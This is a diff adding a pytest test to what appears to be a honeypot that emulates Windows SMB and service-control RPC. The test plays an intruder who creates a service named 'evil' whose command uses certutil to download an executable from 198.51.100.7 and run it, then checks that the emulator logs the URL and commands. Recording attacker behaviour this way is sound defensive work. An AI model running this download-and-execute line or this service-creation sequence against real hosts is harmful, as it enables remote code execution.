@@ -7,8 +7,14 @@ import struct
 
 import pytest
 
-from eudaemon.events.catalogue import ExploitRecognised, FileRequested, LoginTried, SmbClientIdentified
-from eudaemon.protocols._base import Claim, Keep
+from eudaemon.events.catalogue import (
+    CommandEntered,
+    ExploitRecognised,
+    FileRequested,
+    LoginTried,
+    SmbClientIdentified,
+)
+from eudaemon.protocols._base import Claim, HalfClosed, Keep
 from eudaemon.protocols._dcerpc import RpcHost
 from eudaemon.protocols._ntlm import nt_hash, signature_of
 from eudaemon.protocols._windows import server_of
@@ -22,6 +28,7 @@ from eudaemon.world.seed import Seed
 from payload.servers import SIZES, content
 from protocols import smb_client as client
 from protocols.smb_client import Client2, framed, head1, unframed
+from protocols.test__dcerpc import SVCCTL, creation, pointed
 
 HOST = Host.from_seed(Seed(b"test"))
 INSUFFICIENT, NOT_IMPLEMENTED, INVALID = 0xC000_0205, 0xC000_0002, 0xC000_000D
@@ -318,6 +325,25 @@ def test_a_pipe_that_nobody_reads_ends_the_session() -> None:
     for _ in range(opens.UNREAD_BYTES_MAX // 100_000):
         table.say(written)
     assert table.fault
+
+
+def test_who_leaves_is_waited_for_until_its_commands_have_run() -> None:
+    table = talk()
+    peer = somebody(table, share="IPC$")
+    _, pipe = peer.create("svcctl")
+    peer.call(pipe, client.bind(SVCCTL, 2))
+    manager = peer.call(pipe, client.request(15, pointed("x") + bytes(4) + struct.pack("<I", 0xF003F)))[1][24:44]
+    path = "cmd /c certutil -urlcache -f http://198.51.100.7/a C:\\a.exe & C:\\a.exe & bitsadmin /x"
+    made = peer.call(pipe, client.request(12, creation(manager, "evil", path)))[1][24:]
+    peer.call(pipe, client.request(19, made[4:24] + bytes(8)))
+    assert [wish.download.url for wish in table.wishes] == ["http://198.51.100.7/a"]
+    table.tell(HalfClosed(table.at_s))
+    assert not table.over
+    table.answer("ok", program(1000))
+    assert table.over
+    table.end()
+    assert [fact.line for fact in table.facts if isinstance(fact, CommandEntered)][1:] == [path.removeprefix("cmd /c ")]
+    assert not table.fault
 
 
 def test_a_pipe_of_their_own_holds_so_much() -> None:
